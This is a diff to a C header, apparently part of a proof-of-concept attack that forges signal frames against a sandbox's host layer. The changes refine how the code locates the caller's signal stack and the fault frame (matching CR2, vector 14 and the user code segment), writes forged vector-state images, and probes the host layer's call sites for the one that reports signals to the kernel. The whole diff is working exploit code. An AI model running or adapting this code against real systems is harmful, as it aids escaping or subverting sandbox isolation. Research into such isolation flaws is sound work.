@@ -5,7 +5,7 @@
  * The host layer tells the kernel of a signal by a system call from one place in its code, with the
  * address of a signal frame.  A program may jump there.  Where that place is, where the handler
  * before it begins, and where the caller's own signal stack ends, is found at run time: the first
- * two by their bytes and by trying, the last by a frame that a fault leaves.
+ * two by their bytes and by trying, the last by the frame that a fault leaves.
  */
 #ifndef ATTACK_FORGE_H
 #define ATTACK_FORGE_H
@@ -53,7 +53,7 @@ enum {
 enum { FORGED = 77, CALL_SITES = 64, STACKS_WINDOW = 1 << 20, STACK_USED = 0x3000 };
 
 /* From the end of a signal stack down: an image, a frame; both below what a true signal uses. */
-enum { IMAGE_ROOM = 0x5000, FRAME_ROOM = 0x6000 };
+enum { IMAGE_ROOM = 0x5000, FRAME_ROOM = 0x6000, IMAGE_HEAD = 576 };
 
 static uint64_t site[CALL_SITES]; /* every call instruction in the host layer's code */
 static int nsites;
@@ -70,9 +70,22 @@ static inline uint64_t fs_base(void)
 
 /* ---- the caller's own signal stack */
 
-static inline bool changed_by_fault(const volatile uint64_t *at)
+/* Of the last fault that signal_stack_end() made: where its frame stands, and its vector state. */
+static uint64_t true_frame, true_image;
+
+#define UNCHANGED 0x5a5a5a5a5a5a5a5aull
+
+static inline void look_for_frame(uint64_t start, uint64_t end, uint64_t fault)
 {
-	return *at != 0x5a5a5a5a5a5a5a5aull;
+	true_frame = 0;
+	for (uint64_t at = start; at + W_WORDS * 8 <= end && !true_frame; at += 8) {
+		const volatile uint64_t *f = (const volatile uint64_t *)at;
+
+		if (f[W_CR2] == fault && f[W_VECTOR] == 14 && (f[W_SEGMENTS] & 0xffff) == USER_CS) {
+			true_frame = at;
+			true_image = f[W_FPSTATE];
+		}
+	}
 }
 
 /*
@@ -90,18 +103,22 @@ static inline uint64_t signal_stack_end(void)
 	}
 	*fresh = 1;
 	for (uint64_t at = start; at < end; at += 8)
-		if (changed_by_fault((const volatile uint64_t *)at))
+		if (*(const volatile uint64_t *)at != UNCHANGED)
 			found = at;
+	look_for_frame(start, end, (uintptr_t)fresh);
 	munmap((void *)fresh, PAGE);
 	return found ? (found + PAGE) & ~(PAGE - 1) : 0;
 }
 
 /* ---- frames */
 
-/* Vector state as it is at the start of a program: 4 KiB, aligned to 64. */
+/*
+ * Vector state as it is at the start of a program, aligned to 64: the parts that say so.  Room for the
+ * rest must follow: 4 KiB in all.
+ */
 static inline void write_image(uint64_t at)
 {
-	memset((void *)at, 0, PAGE);
+	memset((void *)at, 0, IMAGE_HEAD);
 	*(uint16_t *)at = 0x37f;
 	*(uint32_t *)(at + 24) = 0x1f80;
 }
@@ -203,6 +220,10 @@ static inline bool find_report(void)
 			    exited(attack(probe_site, (void *)i, 2000), FORGED))
 				report_site = site[i];
 	end_attackers();
+	/* Where the kernel can tell, what is forged is not believed: the place is still what it is. */
+	for (long i = nsites; i-- > 0 && !report_site;)
+		if (is_report(site[i]))
+			report_site = site[i];
 	if (report_site)
 		find_handler();
 	return report_site;
